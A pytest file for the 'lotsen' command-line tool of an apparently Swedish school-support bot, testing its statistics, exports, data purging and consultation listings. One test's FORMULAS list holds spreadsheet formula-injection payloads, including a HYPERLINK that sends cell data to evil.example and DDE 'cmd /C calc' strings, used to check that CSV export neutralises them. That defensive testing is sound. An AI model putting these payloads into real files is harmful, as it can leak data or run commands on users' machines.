"""`lotsen statistik`, `unanswered`, `export` and `purge`: what a process leader sees in the terminal.

Each test runs the real `lotsen` command (`python -m bot`) in a subprocess
against a real database file, and checks the exact text and exit code.
"""

from __future__ import annotations

import asyncio
import csv
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.storage.store import Storage

ROOT = Path(__file__).resolve().parent.parent
NOW = datetime.now(UTC)


def lotsen(db: Path, *args: str, retention: int | None = None) -> subprocess.CompletedProcess[str]:
    """Runs `lotsen <args>` with LOTSEN_DB pointing at db."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("LOTSEN_")}
    env["LOTSEN_DB"] = str(db)
    if retention is not None:
        env["LOTSEN_RETENTION_DAYS"] = str(retention)
    return subprocess.run(
        [sys.executable, "-m", "bot", *args], capture_output=True, text=True, cwd=ROOT, env=env, timeout=120
    )


async def _fill(path: Path) -> None:
    async with await Storage.open(path) as storage:
        common = dict(user_key="pseudonym-1", role="larare", urgent=False, personnummer=False)
        await storage.questions.log(
            source_key="cli:1",
            municipality="gnesta",
            text="Elev kan inte sitta still",
            topics=[{"id": "npf", "score": 0.9}],
            declined=False,
            kind="answer",
            now=NOW,
            **common,
        )
        await storage.questions.log(
            source_key="cli:2",
            municipality="flen",
            text="Var ligger närmaste bibliotek?",
            topics=[],
            declined=True,
            kind="declined",
            now=NOW,
            **common,
        )
        await storage.questions.log(
            source_key="cli:3",
            municipality=None,
            text="Gammal fråga om frånvaro",
            topics=[{"id": "skolfranvaro", "score": 0.8}],
            declined=False,
            kind="answer",
            now=NOW - timedelta(days=500),
            **common,
        )
        await storage.consultations.create(
            source_key="cli:4",
            user_key="pseudonym-1",
            chat_id=4242,
            municipality="gnesta",
            topic="npf",
            text="Behöver råd",
            urgency="snart",
            reach="ring växeln",
            route="curator",
            now=NOW,
        )


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A database with three questions (one declined, one 500 days old) and one open consultation."""
    path = tmp_path / "lotsen.sqlite3"
    asyncio.run(_fill(path))
    return path


def test_stats_prints_a_swedish_table(db: Path):
    """The table names the totals, the misses and each topic."""
    result = lotsen(db, "stats")
    assert result.returncode == 0, result.stderr
    assert "Frågor totalt:        3" in result.stdout
    assert "Utan svar (avböjda):  1 (33 %)" in result.stdout
    # Topics and municipalities by name, not id.
    assert "NPF-liknande svårigheter" in result.stdout and "Problematisk skolfrånvaro" in result.stdout
    assert "Gnesta" in result.stdout and "skolfranvaro" not in result.stdout and "gnesta" not in result.stdout
    assert "Öppna konsultationer: 1" in result.stdout


def test_stats_can_save_a_chart(db: Path, tmp_path: Path):
    """--chart writes a PNG next to the table."""
    chart = tmp_path / "statistik.png"
    result = lotsen(db, "stats", "--since", "2020-01-01", "--chart", str(chart))
    assert result.returncode == 0, result.stderr
    assert chart.read_bytes().startswith(b"\x89PNG")
    assert f"Diagrammet är sparat i {chart}" in result.stdout


def test_stats_with_a_bad_date_says_how_to_write_it(db: Path):
    """A date in the wrong form is refused by argparse with the expected form in Swedish."""
    result = lotsen(db, "stats", "--since", "1 mars")
    assert result.returncode == 2
    assert "ange datum som ÅÅÅÅ-MM-DD" in result.stderr


def test_unanswered_lists_the_declined_question(db: Path):
    """The question Lotsen could not place is quoted so it can become a phrasing."""
    result = lotsen(db, "unanswered", "--limit", "5")
    assert result.returncode == 0, result.stderr
    assert "”Var ligger närmaste bibliotek?”" in result.stdout
    assert "Elev kan inte sitta still" not in result.stdout


def test_export_jsonl_writes_rows_without_personal_links(db: Path, tmp_path: Path):
    """Each line is one question; no pseudonym or chat id leaves the database."""
    target = tmp_path / "fragor.jsonl"
    result = lotsen(db, "export", "--format", "jsonl", "--output", str(target))
    assert result.returncode == 0, result.stderr
    rows = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 3
    assert all("user_key" not in row for row in rows)
    assert result.stderr == f"Exporterade 3 rader från questions till {target}\n"
    assert result.stdout == ""


def test_export_csv_of_consultations_goes_to_the_screen(db: Path):
    """Without --output the CSV is printed, header first."""
    result = lotsen(db, "export", "--format", "csv", "--table", "consultations")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("id,reference,created,")
    assert "chat_id" not in lines[0] and "user_key" not in lines[0]
    assert lines[1].startswith("1,K-1,")


FORMULAS = ('=HYPERLINK("https://evil.example/?x="&A1,"Klicka")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1")


async def _log_formulas(path: Path) -> None:
    async with await Storage.open(path) as storage:
        for i, text in enumerate(FORMULAS):
            await storage.questions.log(source_key=f"cli:f{i}", user_key="p", municipality="flen", role=None,
                                       text=text, topics=[], declined=True, kind="declined", urgent=False,
                                       personnummer=False)


def test_export_csv_neutralises_formulas(tmp_path: Path):
    """Question texts that a spreadsheet would run come out with a leading ' (OWASP), numbers stay numbers."""
    db = tmp_path / "lotsen.sqlite3"
    asyncio.run(_log_formulas(db))
    target = tmp_path / "fragor.csv"
    result = lotsen(db, "export", "--format", "csv", "--output", str(target))
    assert result.returncode == 0, result.stderr
    with target.open(encoding="utf-8-sig", newline="") as f:  # newline="": keep the CR inside a cell
        rows = list(csv.DictReader(f))
    assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS]
    assert [row["id"] for row in rows] == [str(i) for i in range(1, len(FORMULAS) + 1)]
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())


def test_purge_clears_old_texts_and_reports_it(db: Path):
    """The 500-day-old question loses its text; running again finds nothing more."""
    result = lotsen(db, "purge", retention=365)
    assert result.returncode == 0, result.stderr
    assert "Rensat allt äldre än 365 dagar" in result.stdout
    assert "frågor utan text och användarnyckel nu: 1" in result.stdout
    again = lotsen(db, "purge", "--days", "30")
    assert "Rensat allt äldre än 30 dagar" in again.stdout
    assert "frågor utan text och användarnyckel nu: 0" in again.stdout


def test_a_missing_database_is_one_clear_line_and_exit_1(tmp_path: Path):
    """Pointing LOTSEN_DB at nothing gives a hint instead of creating an empty database."""
    missing = tmp_path / "finns-inte.sqlite3"
    result = lotsen(missing, "stats")
    assert result.returncode == 1
    assert result.stderr == (
        f"lotsen: databasen {missing} finns inte — ange rätt fil med LOTSEN_DB eller starta boten först\n"
    )
    assert not missing.exists()


def test_konsultationer_lists_open_requests_oldest_first_with_the_recipient(db: Path):
    result = lotsen(db, "konsultationer")
    assert result.returncode == 0, result.stderr
    assert "K-1" in result.stdout and "Gnesta" in result.stdout and "NPF-liknande svårigheter" in result.stdout
    assert "till: processledarnas chatt" in result.stdout
    assert "K-1" in lotsen(db, "konsultationer", "--status", "ny").stdout
    assert "Inga konsultationer" in lotsen(db, "konsultationer", "--status", "hanterad").stdout
